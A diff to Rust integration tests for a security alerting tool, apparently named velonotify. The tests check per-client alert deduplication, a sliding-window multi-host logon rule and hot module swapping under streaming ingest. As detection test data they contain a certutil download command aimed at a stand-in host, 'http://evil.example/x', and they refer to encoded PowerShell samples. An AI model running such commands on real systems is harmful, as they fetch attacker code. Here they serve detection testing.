@@ -18,6 +18,7 @@ use super::{EXE, replay, replay_with, velonotify, write_config};
 
 const T0: u64 = 1_778_400_000; // 2026-05-10T08:00:00Z
 const WIN: &str = "C.91ac3d5e7f20b846";
+const LIN: &str = "C.4b7e1a9c0d2f3e51";
 
 fn python_module(name: &str) -> PathBuf {
     python_modules_dir().join(format!("{name}.wasm"))
@@ -61,6 +62,16 @@ fn process_rows() -> Vec<Value> {
     ]
 }
 
+/// The encoded PowerShell of `process_rows`, on another client a minute
+/// later: within the Dedup interval, but another client's alert.
+fn on_another_client() -> Value {
+    let mut row = process_rows()[1].clone();
+    row["ClientId"] = json!(LIN);
+    row["Timestamp"] = json!(T0 + 60);
+    row["_ts"] = json!(T0 + 60);
+    row
+}
+
 const DETECTION_CONFIG: &str = r#"
 [lookups]
 world = "WORLD"
@@ -87,7 +98,9 @@ fn a_python_detection_raises_alerts_that_the_alerts_module_emails() {
                 &python_module("process_creation").display().to_string(),
             ),
     );
-    let events = write_rows(dir.path(), "processes.jsonl", &process_rows());
+    let mut rows = process_rows();
+    rows.push(on_another_client());
+    let events = write_rows(dir.path(), "processes.jsonl", &rows);
     let out = dir.path().join("out");
     let output = replay(&config, &events, &out);
     let summary = jsonl(&out.join("summary.jsonl"));
@@ -96,19 +109,29 @@ fn a_python_detection_raises_alerts_that_the_alerts_module_emails() {
         .filter(|s| s["kind"] == "alert")
         .map(|s| (s["event"].as_str().unwrap(), s["subject"].as_str().unwrap()))
         .collect();
+    let (encoded, lolbin, elsewhere) = (
+        format!("Encoded PowerShell command on {WIN}"),
+        format!("LOLBin: certutil downloading or decoding a file on {WIN}"),
+        format!("Encoded PowerShell command on {LIN}"),
+    );
     assert_eq!(
         alerts,
         [
-            ("processes.jsonl:2", "Encoded PowerShell command"),
-            ("processes.jsonl:3", "LOLBin: certutil downloading or decoding a file"),
-        ]
+            ("processes.jsonl:2", encoded.as_str()),
+            ("processes.jsonl:3", lolbin.as_str()),
+            ("processes.jsonl:5", elsewhere.as_str()),
+        ],
+        "one client's alert does not hold back another's (Dedup is per name)"
     );
     let mails = emails(&out);
-    assert_eq!(mails.len(), 2, "each alert is e-mailed: {summary:?}");
+    assert_eq!(mails.len(), 3, "each alert is e-mailed: {summary:?}");
     let mail = mailparse::parse_mail(&mails[0].1).unwrap();
-    assert_eq!(
-        header(&mail, "Subject").unwrap(),
-        "Alert from client WIN-FIN-01 (high): Encoded PowerShell command"
+    assert!(
+        header(&mail, "Subject")
+            .unwrap()
+            .starts_with("Alert from client WIN-FIN-01 (high): Encoded PowerShell command"),
+        "{:?}",
+        header(&mail, "Subject")
     );
     let text = velonotify_test_support::part(&mail, "text/plain").unwrap();
     assert!(
@@ -152,16 +175,32 @@ fn a_python_rule_keeps_its_state_across_restarts() {
         ],
     );
     assert!(first.is_empty(), "{first:?}");
-    // After a restart: two more hosts within the window make four.
-    let second = replay(
-        "second.jsonl",
-        &[logon(T0 + 120, "alice", "C.3"), logon(T0 + 180, "Alice", "C.4")],
+    // After a restart, within the window: three hosts, not more than three.
+    let second = replay("second.jsonl", &[logon(T0 + 500, "alice", "C.3")]);
+    assert!(second.is_empty(), "{second:?}");
+    // The window slides: C.1 and C.2 are older than ten minutes at T0 + 700,
+    // although the account's state was written since; then two more hosts
+    // make four within the window.
+    let third = replay(
+        "third.jsonl",
+        &[
+            logon(T0 + 700, "alice", "C.4"),
+            logon(T0 + 710, "Alice", "C.5"),
+            logon(T0 + 720, "alice", "C.6"),
+        ],
     );
-    let subjects: Vec<&str> = second.iter().map(|s| s["subject"].as_str().unwrap()).collect();
-    assert_eq!(subjects, ["Account Alice logged on to 4 hosts within 10 minutes"]);
-    // Hosts seen before the window are forgotten.
-    let later = replay("later.jsonl", &[logon(T0 + 3600, "alice", "C.5")]);
-    assert!(later.is_empty(), "{later:?}");
+    let raised: Vec<(&str, &str)> = third
+        .iter()
+        .map(|s| (s["event"].as_str().unwrap(), s["subject"].as_str().unwrap()))
+        .collect();
+    assert_eq!(
+        raised,
+        [(
+            "third.jsonl:3",
+            "Account alice logged on to more than 3 hosts within 10 minutes"
+        )],
+        "raised once for the account, at the fourth host in the window"
+    );
 }
 
 #[test]
@@ -193,7 +232,7 @@ fn velonotify_test_prints_a_modules_actions_and_checks_them() {
     assert_eq!(lines.len(), 2, "{lines:?}");
     assert_eq!(lines[0]["event"], "rows.jsonl:2");
     assert_eq!(lines[0]["kind"], "alert");
-    assert_eq!(lines[0]["name"], "Encoded PowerShell command");
+    assert_eq!(lines[0]["name"], format!("Encoded PowerShell command on {WIN}"));
     assert_eq!(
         lines[1]["event_data"]["Detection"],
         "certutil downloading or decoding a file"
@@ -214,7 +253,14 @@ fn velonotify_test_prints_a_modules_actions_and_checks_them() {
 
     // Parameters are parsed as the module declares them, and named when bad.
     let off = test(&["--param", "EncodedPowerShell=N"]);
-    assert_eq!(String::from_utf8(off.stdout).unwrap().lines().count(), 1);
+    assert!(off.status.success(), "{}", stderr(&off));
+    let left: Vec<Value> = String::from_utf8(off.stdout)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(left.len(), 1, "{left:?}");
+    assert_eq!(left[0]["event"], "rows.jsonl:3", "only the LOLBin is left");
     let bad = test(&["--param", "Dedup=ten"]);
     assert!(!bad.status.success());
     assert!(
@@ -304,37 +350,45 @@ path = "user_message.wasm"
     run.wait("the ingest endpoint", Duration::from_secs(120), |r| {
         r.log().contains("HTTP ingest at")
     });
-    let post = |first: u64| {
-        let body: String = (first..first + BATCH)
-            .map(|n| {
-                let mut row = process(
-                    T0 + n,
-                    "certutil.exe",
-                    "certutil.exe -urlcache -f http://evil.example/x",
-                );
-                row["PID"] = json!(n);
-                format!("{row}\n")
-            })
-            .collect();
-        let (status, answer) = post_events(
-            ingest,
-            Some(TOKEN),
-            "queue=Windows.Events.ProcessCreation",
-            body.as_bytes(),
-        );
-        assert_eq!(status, 200, "{answer}");
-    };
-    let swapped = "velonotify_module_swaps_total{module=\"detections\",result=\"swapped\"}";
-    for first in (0..ROWS).step_by(BATCH as usize) {
-        post(first);
-        if first == ROWS / 2 {
-            std::fs::rename(&staged, dir.path().join("rule.wasm")).unwrap();
-            run.wait("the swap", Duration::from_secs(120), |_| metric(metrics, swapped) == 1);
+    // Rows stream in from another thread while the new build is deployed.
+    let poster = std::thread::spawn(move || {
+        for first in (0..ROWS).step_by(BATCH as usize) {
+            let body: String = (first..first + BATCH)
+                .map(|n| {
+                    let mut row = process(
+                        T0 + n,
+                        "certutil.exe",
+                        "certutil.exe -urlcache -f http://evil.example/x",
+                    );
+                    row["PID"] = json!(n);
+                    format!("{row}\n")
+                })
+                .collect();
+            let (status, answer) = post_events(
+                ingest,
+                Some(TOKEN),
+                "queue=Windows.Events.ProcessCreation",
+                body.as_bytes(),
+            );
+            assert_eq!(status, 200, "{answer}");
+            std::thread::sleep(Duration::from_millis(20));
         }
-    }
+    });
+    run.wait("rows flowing", Duration::from_secs(120), |_| {
+        rows_reaching(metrics, "detections") >= 3 * BATCH
+    });
+    std::fs::rename(&staged, dir.path().join("rule.wasm")).unwrap();
+    let swapped = "velonotify_module_swaps_total{module=\"detections\",result=\"swapped\"}";
+    run.wait("the swap", Duration::from_secs(120), |_| metric(metrics, swapped) == 1);
+    let reached_at_swap = rows_reaching(metrics, "detections");
+    poster.join().expect("the poster");
     run.wait("every row handled", Duration::from_secs(120), |_| {
         rows_reaching(metrics, "detections") >= ROWS
     });
+    assert!(
+        reached_at_swap < ROWS,
+        "the swap came while rows were still flowing ({reached_at_swap} of {ROWS} handled)"
+    );
 
     let store = Store::open(&dir.path().join("state.db")).unwrap();
     let mut handled: BTreeMap<u64, u32> = BTreeMap::new();
